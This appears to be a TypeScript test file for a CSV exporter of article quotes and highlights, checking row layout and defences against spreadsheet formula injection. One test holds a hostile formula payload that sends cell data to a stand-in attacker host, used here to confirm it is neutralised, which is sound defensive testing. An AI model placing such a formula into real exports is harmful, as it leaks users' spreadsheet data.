// Does a spreadsheet get rows that a CSV reader reads, and no cell that counts?

import fc from 'fast-check';
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  guardFormula,
  HIGHLIGHT_COLUMNS,
  QUOTE_COLUMNS,
  toCsvCell,
  toHighlightsCsv,
  toQuotesCsv,
} from '../../../../src/core/export/csv.ts';
import { runs } from '../../property-runs.ts';
import { inventArticle, inventHostileArticle } from './invented-article.ts';

const readRows = (csv: string, delimiter = ','): readonly (readonly string[])[] => {
  const { data, errors } = parse(csv.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true });
  if (delimiter === ',') expect(errors).toEqual([]);
  return data;
};

/** As spreadsheets do it: what shows nothing at the start of a cell does not count. */
const isFormula = (cell: string): boolean => /^[\s\p{Cf}"]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell);

describe('a table of quotes', () => {
  it('has a row a quote, with speaker, role, reporters, outlet, day and link', () => {
    const [header = [], first = [], second = [], ...more] = readRows(toQuotesCsv([inventArticle()]));
    expect(header).toEqual([...QUOTE_COLUMNS]);
    expect(Object.fromEntries(header.map((name, at) => [name, first[at]]))).toEqual({
      quote: 'We are ready, and we will not wait',
      kind: 'direct',
      speaker: 'Ana Ruiz',
      speaker_type: 'person',
      role: 'mayor of Lund',
      unsure: 'no',
      corrected: 'no',
      also_said_by: '',
      stance: '',
      title: 'Bridge to open in May',
      outlet: 'The Paper',
      reporters: 'Tom van der Berg; Jane Q. Smith',
      published: '2026-03-01',
      url: 'https://paper.example/bridge?id=7&page=2',
      link: 'https://paper.example/bridge?id=7&page=2#:~:text=We%20are%20ready%2C%20and%20we%20will%20not%20wait',
      start: '31',
      end: '65',
      id: 'q1',
    });
    expect(second[0]).toBe('light');
    expect(more).toEqual([]);
  });

  it('begins with the mark by which Excel knows UTF-8, and ends each line as RFC 4180 says', () => {
    const csv = toQuotesCsv([inventArticle()]);
    expect(csv.startsWith('\uFEFF"quote"')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toContain('\r');
  });
});

it('a table of highlights has a row a highlight; a note of two lines stays one cell', () => {
  const [header = [], row = [], ...more] = readRows(toHighlightsCsv([inventArticle()]));
  expect(header).toEqual([...HIGHLIGHT_COLUMNS]);
  expect(row.slice(0, 4)).toEqual(['open in May', 'Ask when exactly.\nAnd who pays?', 'green', 'To check']);
  expect(more).toEqual([]);
});

describe('a cell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1', "'  =1"],
    ['\u00A0=1', "'\u00A0=1"],
    ['\u200B=1', "'\u200B=1"],
    ['\u202E=1', "'\u202E=1"],
    ['＝1', "'＝1"],
    ['－1', "'－1"],
    ['"=1', `'"=1`],
    ['a\n=1', "a\n'=1"],
    ['a;=1', "a;'=1"],
    ['well-known = fine', 'well-known = fine'],
    ['3 - 1; and so on', '3 - 1; and so on'],
    ['– a dash of dialogue', '– a dash of dialogue'],
    ['a@b.example', 'a@b.example'],
  ])('%j becomes %j', (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
  });

  it('is never a formula, and never two cells, whatever stands in it', () => {
    const sign = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '"',
      "'",
      ',',
      ';',
      '\t',
      '\r',
      '\n',
      ' ',
      '＝',
      '\u200B',
      'a',
      '1',
      '\u202E',
    );
    const text = fc.oneof(fc.string({ unit: sign, maxLength: 12 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(text, text, (one, two) => {
        const line = `${toCsvCell(one)},${toCsvCell(two)}\r\n`;
        const [cells = [], ...more] = readRows(line);
        expect([cells.length, more.length]).toEqual([2, 0]);
        expect(cells.filter(isFormula)).toEqual([]);
        // Excel that is set to semicolons.
        expect(
          readRows(line, ';')
            .flat()
            .filter((cell) => isFormula(cell.trim())),
        ).toEqual([]);
      }),
      runs(500),
    );
  });

  it('keeps its words', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (text) => {
        const [[cell = ''] = []] = readRows(`${toCsvCell(`x${text}y`)},"z"\r\n`);
        expect(cell.replace(/[\s']/g, '')).toBe(`x${text}y`.replace(/[\s']/g, ''));
      }),
      runs(),
    );
  });
});

it('no cell of a hostile article is a formula', () => {
  const article = inventHostileArticle('=HYPERLINK("https://evil.example?x="&A1,"click")');
  for (const csv of [toQuotesCsv([article]), toHighlightsCsv([article])]) {
    expect(readRows(csv).flat().filter(isFormula)).toEqual([]);
  }
});
